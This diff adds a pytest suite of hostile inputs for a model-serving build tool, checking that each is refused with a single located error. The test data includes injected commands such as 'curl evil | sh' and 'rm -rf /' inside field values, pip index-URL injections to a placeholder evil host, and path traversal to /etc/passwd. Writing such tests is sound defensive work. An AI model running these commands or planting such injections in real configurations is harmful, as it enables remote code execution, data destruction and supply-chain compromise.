@@ -1,0 +1,376 @@
+"""A corpus of hostile inputs, one list per class of boundary (issue #29): values that would become lines of another
+format, paths, types YAML guesses, knob values, files handed to us, servers, and command-line arguments. Every
+input is refused in one located line (or, for a server, fails its check in time), never accepted, never a traceback
+or `error: unexpected`, never a hang."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import subprocess
+import sys
+import threading
+import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+
+from support import ROOT
+
+GOOD = (ROOT / "images.yaml").read_text()
+
+
+def _sub(old: str, new: str):
+    assert old in GOOD, old
+    return lambda text: text.replace(old, new, 1)
+
+
+def _line(prefix: str, value: str):
+    """Replace the value of the first line that starts with `prefix` (a key and its indent)."""
+    pattern = re.compile(rf"^{re.escape(prefix)}.*$", re.M)
+    assert pattern.search(GOOD), prefix
+    return lambda text: pattern.sub(lambda _: prefix + value, text, count=1)
+
+
+def _refused(code: int, err: str, *fragments: str) -> None:
+    """Exit 2, one line, no traceback and no `unexpected`, each fragment in the line."""
+    lines = err.strip().splitlines()
+    assert code == 2, err
+    assert lines and lines[-1].startswith("error: "), err
+    assert "unexpected" not in err and "Traceback" not in err, err
+    for fragment in fragments:
+        assert fragment in lines[-1], lines[-1]
+
+
+# --- 1. values that would become lines of a requirements, pip, .env or Compose file, or a command -------------
+
+LINES = [
+    ("pin-name-adds-an-index", _sub('  torch: "2.13.0"', '  "torch\\n--index-url http://evil": "2.13.0"\n  torch: "2.13.0"'),
+     ["U+000A", "line break"]),
+    ("pin-name-not-a-name", _sub('  torch: "2.13.0"', '  "torch --index-url=http://evil": "2.13.0"\n  torch: "2.13.0"'),
+     ["pins", "distribution name"]),
+    ("index-url-adds-a-trusted-host", _sub("    url: https://pypi.org/simple",
+                                           '    url: "https://pypi.org/simple\\n--trusted-host evil"'),
+     ["indexes.pypi.url", "U+000A"]),
+    ("index-url-with-a-space", _sub("    url: https://pypi.org/simple", '    url: "https://pypi.org/simple --trusted-host x"'),
+     ["indexes.pypi.url", "expected text matching"]),
+    ("torch-local-version-adds-an-index", _sub("torch_local_version: cpu",
+                                               'torch_local_version: "cpu\\n--extra-index-url http://x"'),
+     ["targets.cpu.torch_local_version", "U+000A"]),
+    ("torch-local-version-not-a-label", _sub("torch_local_version: cpu", 'torch_local_version: "cpu --pre"'),
+     ["targets.cpu.torch_local_version"]),
+    ("knob-adds-an-env-line", _sub("        MAX_SEQS: 4", '        MAX_SEQS: 4\n        TOOL_PARSER: "x\\nEVIL=1"'),
+     ["TOOL_PARSER", "U+000A"]),
+    ("knob-carriage-return", _sub("        MAX_SEQS: 4", '        MAX_SEQS: 4\n        TOOL_PARSER: "x\\rEVIL=1"'),
+     ["TOOL_PARSER", "U+000D"]),
+    ("knob-unicode-line-separator", _sub("        MAX_SEQS: 4", '        MAX_SEQS: 4\n        TOOL_PARSER: "x\\u2028y"'),
+     ["TOOL_PARSER", "U+2028"]),
+    ("target-env-value-adds-a-line", _sub("    env:\n", '    env:\n      EVIL: "a\\nPATH=/tmp"\n'), ["U+000A"]),
+    ("target-env-key-not-a-name", _sub("    env:\n", '    env:\n      "A=B": "x"\n'),
+     ["targets.cpu.env", "environment variable's name"]),
+    ("apt-package-adds-a-command", _sub("    apt: [", '    apt: ["python3; curl evil | sh", '),
+     ["Debian package name"]),
+    ("base-image-adds-a-line", _line("    image: ", '"debian:12\\nRUN evil"'), ["U+000A"]),
+    ("base-image-not-a-reference", _line("    image: ", '"debian 12 --platform x"'),
+     ["image reference"]),
+    ("served-name-adds-a-flag", _line("    served_name: ", '"m --trust-remote-code"'),
+     ["served_name"]),
+    ("description-with-a-tab", _sub("    description: many short requests at once;", '    description: "short\\tEVIL" # many short requests at once;'), ["U+0009"]),
+    ("nul-in-a-value", _sub("    description: many short requests at once;", '    description: "short\\0" # many short requests at once;'), ["U+0000"]),
+    ("key-with-an-escape-sequence", _sub("  batch:\n    description: many", '  "batch\\e[2J":\n    description: many'),
+     ["U+001B"]),
+]
+
+# --- 2. paths: one rule for every path the matrix names -----------------------------------------------------
+
+PATHS = [
+    ("series-dir-absolute", _sub("  dir: docker/patches", "  dir: /etc"), ["series.dir", "stays inside it"]),
+    ("component-source-up", _sub("    source: kvarn", "    source: ../kvarn"), ["components.kvarn.source", "no '..'"]),
+    ("pin-mirror-outside", _sub("  - docs/install.md", "  - ../../etc/hosts"), ["pin_mirrors.0", "no '..'"]),
+    ("pin-mirror-absolute", _sub("  - docs/install.md", "  - /etc/hosts"), ["pin_mirrors.0", "not absolute"]),
+    ("patch-name-up", _sub('["kvarn-{vllm}.patch",', '["../../../etc/passwd",'), ["components.kvarn.patches.0", "no '..'"]),
+    ("patch-unknown-pin", _sub('["kvarn-{vllm}.patch",', '["kvarn-{pin:nope}.patch",'),
+     ["components.kvarn.patches.0", "{pin:nope} names no pin"]),
+    ("compose-file-elsewhere", _sub("    compose: [", '    compose: ["../../x.yaml", '), ["targets.cpu.compose"]),
+    ("model-dir-backslash", _line("    dir: docker/demo-model", "x/../../y"), ["models.demo.dir"]),
+]
+
+# --- 3. types YAML guesses -------------------------------------------------------------------------------
+
+TYPES = [
+    ("boolean-for-a-number", _line("  boot_timeout_s: ", "true"),
+     ["serve.boot_timeout_s", "expected an integer"]),
+    ("quoted-number-for-a-number", _line("  boot_timeout_s: ", '"900"'),
+     ["serve.boot_timeout_s", "expected an integer"]),
+    ("float-for-an-integer", _line("  boot_timeout_s: ", "900.5"),
+     ["serve.boot_timeout_s", "integer"]),
+    ("number-for-a-boolean", _sub("    gpu: false", "    gpu: 0"), ["targets.cpu.gpu", "expected true or false"]),
+    ("string-for-a-boolean", _sub("    gpu: false", '    gpu: "no"'), ["targets.cpu.gpu", "expected true or false"]),
+    ("number-for-a-string", _line("    served_name: ", "12"),
+     ["served_name", "expected a string"]),
+    ("integer-beyond-pythons-limit", _sub("        MAX_SEQS: 4", "        MAX_SEQS: " + "9" * 5000), ["5000 digits"]),
+    ("check-param-beyond-the-limit", _sub("params: {prompts: 64}", "params: {prompts: " + "9" * 5000 + "}"),
+     ["5000 digits"]),
+    ("port-beyond-tcp", _line("  port: ", "99999"), ["serve.port"]),
+    ("list-for-a-mapping", _sub('      TORCHDYNAMO_DISABLE: "1"', '      - TORCHDYNAMO_DISABLE'), ["targets.cpu.env", "a mapping"]),
+]
+
+# --- 4. knob values: the loader, the launcher and --knob judge through the same code -----------------------
+
+KNOB_VALUES = [
+    ("extra-args-that-does-not-split", _sub("        MAX_SEQS: 4", "        MAX_SEQS: 4\n        EXTRA_ARGS: '--x \"open'"),
+     ["profiles.alternative", "the launcher refuses it", "arguments as a shell splits them"]),
+    ("speculation-on-batch", _sub("    knobs:\n      MODE: batch", "    knobs:\n      MODE: batch\n      SPEC: mtp"),
+     ["profiles.batch", "the launcher refuses it", "batch serves without speculation"]),
+    ("extra-args-speculative-config", _sub("        MAX_SEQS: 4",
+                                           "        MAX_SEQS: 4\n        EXTRA_ARGS: --speculative-config={}"),
+     ["profiles.alternative", "set SPEC"]),
+    ("tier-in-extra-args-not-a-number", _sub("        MAX_SEQS: 4",
+                                             "        MAX_SEQS: 4\n        EXTRA_ARGS: --kv-offloading-size lots"),
+     ["profiles.alternative", "--kv-offloading-size"]),
+    ("knob-nan", _sub("      GPU_UTIL: 0.2", "      GPU_UTIL: .nan"), ["GPU_UTIL", "finite"]),
+]
+
+
+@pytest.mark.parametrize("case_id,mutate,fragments", LINES + PATHS + TYPES + KNOB_VALUES,
+                         ids=[c[0] for c in LINES + PATHS + TYPES + KNOB_VALUES])
+def test_a_hostile_matrix_value_is_refused_at_load_in_one_located_line(repo, cli, case_id, mutate, fragments):
+    path = repo / "images.yaml"
+    text = mutate(GOOD)
+    assert text != GOOD
+    path.write_text(text)
+    code, _, err = cli("--matrix", str(path), "plan")
+    _refused(code, err, str(path), *fragments)
+
+
+def test_a_knob_with_spaces_around_it_is_one_value_for_every_reader(repo, cli):
+    """`'mtp '` is mtp to the loader, to the rendered profiles and to the launcher alike."""
+    from servekit.config.load import load_matrix
+    from servekit.config.profiles import render_profiles
+    from servekit.image.launcher import build_command
+    path = repo / "images.yaml"
+    path.write_text(_sub("      SPEC: mtp\n      CTX: fast", "      SPEC: ' mtp '\n      CTX: fast")(GOOD))
+    matrix = load_matrix(path)
+    assert matrix.profiles["mtp"].knobs["SPEC"] == "mtp"
+    rendered = render_profiles(matrix, "cuda")
+    argv, _ = build_command(rendered, "mtp", "native", {"SPEC": " mtp "})
+    assert any('"method": "mtp"' in a or '"method":"mtp"' in a for a in argv), argv
+
+
+@pytest.mark.parametrize("value, says", [("4\nEVIL=1", "U+000A"), ("--x 'open", "arguments as a shell splits them"),
+                                         ("--speculative-config={}", "set SPEC")])
+def test_the_launcher_refuses_what_the_loader_refuses(value, says):
+    """The same value through the environment at boot: the launcher's refusal, not a crash."""
+    from servekit.config.load import load_matrix
+    from servekit.config.profiles import render_profiles
+    from servekit.image.launcher import KnobError, build_command
+    rendered = render_profiles(load_matrix(ROOT / "images.yaml"), "cuda")
+    name = "TOOL_PARSER" if "\n" in value else "EXTRA_ARGS"
+    with pytest.raises(KnobError, match=re.escape(says)):
+        build_command(rendered, "default", "native", {name: value})
+
+
+@pytest.mark.parametrize("argv, says", [
+    (["up", "batch", "--knob", "SPEC=mtp"], "the launcher would refuse to start batch"),
+    (["up", "default", "--knob", "TOOL_PARSER=a\nb"], "U+000A"),
+    (["up", "default", "--knob", "EXTRA_ARGS=--x 'open"], "arguments as a shell splits them"),
+    (["up", "default", "--knob", "NOPE=1"], "expected NAME=VALUE"),
+])
+def test_a_hostile_knob_on_the_command_line_is_refused_before_anything_starts(repo, cli, argv, says):
+    code, _, err = cli("--matrix", str(repo / "images.yaml"), *argv, "--target", "cuda", "--engine", "venv:" + sys.prefix)
+    _refused(code, err, says)
+
+
+# --- 5. files handed to us: keys, reports, manifests ----------------------------------------------------------
+
+def _hostile_file(tmp_path: Path, kind: str, good: str) -> Path:
+    path = tmp_path / f"hostile-{kind}"
+    if kind == "fifo":
+        os.mkfifo(path)  # opening it to read would block until a writer came
+    elif kind == "device":
+        return Path("/dev/zero")
+    elif kind == "folder":
+        path.mkdir()
+    elif kind == "huge":
+        with open(path, "wb") as f:
+            f.truncate(80 << 20)  # sparse: 80 MiB of NULs that take no disk
+    elif kind == "binary":
+        path.write_bytes(b"\xff\xfe" + good.encode())
+    elif kind == "nested":
+        path.write_text("[" * 200_000 + "]" * 200_000)
+    elif kind == "link-to-fifo":
+        os.mkfifo(tmp_path / "fifo-behind")
+        path.symlink_to(tmp_path / "fifo-behind")
+    return path
+
+
+FILE_KINDS = ["fifo", "device", "folder", "huge", "binary", "link-to-fifo"]
+
+
+@pytest.mark.parametrize("kind", FILE_KINDS)
+def test_a_hostile_key_file_stops_the_launcher_in_one_line(tmp_path, kind):
+    from servekit.image.launcher import read_key
+    started = time.monotonic()
+    key, why = read_key(str(_hostile_file(tmp_path, kind, "sk-" + "k" * 40)))
+    assert key is None and why.startswith("no API key: ") and "\n" not in why, why
+    assert time.monotonic() - started < 5
+
+
+def test_a_key_of_two_lines_is_no_key(tmp_path):
+    from servekit.image.launcher import read_key
+    path = tmp_path / "key"
+    path.write_text("sk-" + "k" * 40 + "\nsecond line\n")
+    key, why = read_key(str(path))
+    assert key is None and "U+000A" in why and "kkkk" not in why  # the key's text is never shown
+
+
+@pytest.mark.parametrize("kind", [*FILE_KINDS, "nested"])
+def test_a_hostile_report_is_refused_by_compare_in_one_line(tmp_path, cli, kind):
+    good = ROOT / "docs/gpu/20261201-045103-default-cuda/report.json"
+    started = time.monotonic()
+    code, _, err = cli("compare", str(_hostile_file(tmp_path, kind, good.read_text())), str(good))
+    _refused(code, err)
+    assert time.monotonic() - started < 10
+
+
+MALFORMED_REPORTS = [
+    ("not-an-object", lambda d: [d]),
+    ("checks-not-a-list", lambda d: {**d, "checks": "passed"}),
+    ("check-of-a-wrong-status", lambda d: {**d, "checks": [{**d["checks"][0], "status": "great"}]}),
+    ("figures-nested-deep", lambda d: {**d, "checks": [{**d["checks"][0], "figures": _deep(5000)}]}),
+    ("a-number-as-text", lambda d: {**d, "boot": {**d["boot"], "time_to_healthy_s": "fast"}}),
+    ("another-kind", lambda d: {**d, "kind": "sweep"}),
+    ("a-future-schema", lambda d: {**d, "schema_version": 99}),
+]
+
+
+def _deep(levels: int):
+    out: dict = {}
+    for _ in range(levels):
+        out = {"x": out}
+    return out
+
+
+@pytest.mark.parametrize("case_id, mutate", MALFORMED_REPORTS, ids=[m[0] for m in MALFORMED_REPORTS])
+def test_a_malformed_report_is_refused_by_compare_in_one_line(tmp_path, cli, case_id, mutate):
+    good = ROOT / "docs/gpu/20261201-045103-default-cuda/report.json"
+    bad = tmp_path / "report.json"
+    doc = json.loads(good.read_text())
+    sys.setrecursionlimit(max(sys.getrecursionlimit(), 20000))  # json.dumps of the deep case, not the code under test
+    bad.write_text(json.dumps(mutate(doc)))
+    code, _, err = cli("compare", str(bad), str(good))
+    _refused(code, err, str(bad))
+
+
+def test_a_reports_words_are_never_read_as_markup(tmp_path, cli):
+    """compare prints a table through Rich: a run id or a figure like "[/x]" is text, not a tag."""
+    good = ROOT / "docs/gpu/20261201-045103-default-cuda/report.json"
+    doc = json.loads(good.read_text())
+    doc["run_id"] = "[/bold][red]x"
+    doc["checks"][0]["figures"] = {"[/weird]": "[link=http://evil]y"}
+    bad = tmp_path / "report.json"
+    bad.write_text(json.dumps(doc))
+    code, out, err = cli("compare", str(bad), str(good))
+    assert code == 0, err
+    assert "[/bold][red]x" in out
+
+
+@pytest.mark.parametrize("kind", ["fifo", "huge", "binary"])
+def test_a_hostile_api_key_file_for_smoke_is_refused_in_one_line(repo, tmp_path, cli, kind):
+    key = _hostile_file(tmp_path, kind, "sk-" + "k" * 40)
+    code, _, err = cli("--matrix", str(repo / "images.yaml"), "smoke", "default", "--target", "cpu", "--url",
+                       "http://127.0.0.1:9", "--api-key-file", str(key))
+    _refused(code, err, "--api-key-file")
+
+
+# --- 6. servers: a redirect elsewhere fails, --timeout bounds a check -------------------------------------------
+
+class _Server(BaseHTTPRequestHandler):
+    redirect_to = ""
+    stop = threading.Event()
+
+    def do_GET(self):
+        if self.redirect_to:
+            self.send_response(302)
+            self.send_header("Location", self.redirect_to + self.path)
+            self.end_headers()
+            return
+        self.stop.wait(60)  # never answers
+
+    do_POST = do_GET
+
+    def log_message(self, *args):
+        pass
+
+
+@pytest.fixture
+def server():
+    made = []
+
+    def start(redirect_to: str = ""):
+        stop = threading.Event()
+        handler = type("Handler", (_Server,), {"redirect_to": redirect_to, "stop": stop})
+        httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+        httpd.daemon_threads = True
+        threading.Thread(target=httpd.serve_forever, daemon=True).start()
+        made.append((httpd, stop))
+        return f"http://127.0.0.1:{httpd.server_port}"
+    yield start
+    for httpd, stop in made:
+        stop.set()
+        httpd.shutdown()
+        httpd.server_close()
+
+
+def test_a_redirect_to_another_origin_fails_the_check(server):
+    from smoke import Context, run_check
+    elsewhere = server()  # a second server: it would hang, but it must never be asked
+    ctx = Context(server(redirect_to=elsewhere), "k" * 20, "m", check_deadline_s=20)
+    result = run_check("health", ctx, {})
+    assert result.status == "failed" and "another origin" in result.reason, result
+    assert result.seconds < 10
+
+
+def test_smoke_timeout_bounds_every_check(repo, tmp_path, server):
+    """`smoke --url` against a server that never answers, `--timeout 2`: every check fails by then, named."""
+    key = tmp_path / "key"
+    key.write_text("sk-" + "k" * 40)
+    started = time.monotonic()
+    done = subprocess.run([sys.executable, str(ROOT / "build.py"), "--matrix", str(repo / "images.yaml"), "smoke",
+                           "default", "--target", "cpu", "--url", server(), "--api-key-file", str(key),
+                           "--check", "health", "--check", "greedy", "--timeout", "2"], capture_output=True,
+                          text=True, timeout=120, cwd=repo)
+    assert done.returncode == 1, done.stderr
+    assert time.monotonic() - started < 60
+    assert done.stdout.count("no verdict within 2 s") == 2, done.stdout
+
+
+# --- 7. arguments: refused in one line before any work starts -----------------------------------------------
+
+ARGUMENTS = [
+    (["up", "default", "--port", "0"], "--port", "a TCP port"),
+    (["up", "default", "--port", "70000"], "--port", "at most 65535"),
+    (["up", "default", "--port", "eighty"], "--port", "a TCP port"),
+    (["up", "default", "--timeout", "-5"], "--timeout", "seconds"),
+    (["up", "default", "--timeout", "nan"], "--timeout", "finite"),
+    (["sweep", "default", "--knob", "MAX_SEQS=4", "--boots", "0"], "--boots", "at least 1"),
+    (["compare", "a", "b", "--threshold", "-1"], "--threshold", "at least 0"),
+    (["monitor", "--interval", "0"], "--interval", "at least 0.001"),
+    (["monitor", "--seconds", "-1"], "--seconds", "seconds"),
+    (["logs", "default", "--tail", "-3"], "--tail", "at least 0"),
+    (["render", "k8s", "--profile", "default", "--kube-version", "1.31; rm -rf /"], "--kube-version", "1.31"),
+    (["render", "k8s", "--profile", "default", "--out", "images.yaml"], "--out", "is a file"),
+    (["smoke", "default", "--url", "file:///etc/passwd"], "--url", "http(s)://"),
+    (["smoke", "default", "--url", "http://me:pw@127.0.0.1:8000"], "--url", "no credentials"),
+    (["smoke", "default", "--url", "http://127.0.0.1:99999"], "--url", "http(s)://"),
+    (["smoke", "default", "--timeout", "0"], "--timeout", "more than 0"),
+]
+
+
+@pytest.mark.parametrize("argv, flag, says", ARGUMENTS, ids=[" ".join(a[0]) for a in ARGUMENTS])
+def test_a_bad_argument_is_refused_in_one_line_before_any_work(repo, cli, argv, flag, says):
+    code, out, err = cli("--matrix", str(repo / "images.yaml"), *argv)
+    _refused(code, err, flag, says)
+    assert out == ""
